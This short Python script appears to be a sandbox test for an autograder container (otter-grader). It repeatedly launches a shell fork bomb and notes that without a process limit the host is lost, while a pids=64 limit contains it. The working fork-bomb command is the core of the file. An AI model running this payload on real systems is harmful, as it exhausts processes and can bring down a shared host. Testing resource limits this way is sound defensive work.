"""A shell function that starts itself twice in the background, and again; it goes on while tests run.

naive: host lost, otter-grader's container has no limit on processes.
limits: pids=64
reached: the bomb went off
"""

# %%
import subprocess
import time

end = time.monotonic() + 1
while time.monotonic() < end:
    try:
        subprocess.Popen(["sh", "-c", "b() { b | b & }; while :; do b; done"], stderr=subprocess.DEVNULL)
    except BlockingIOError:
        pass
print("the bomb went off")
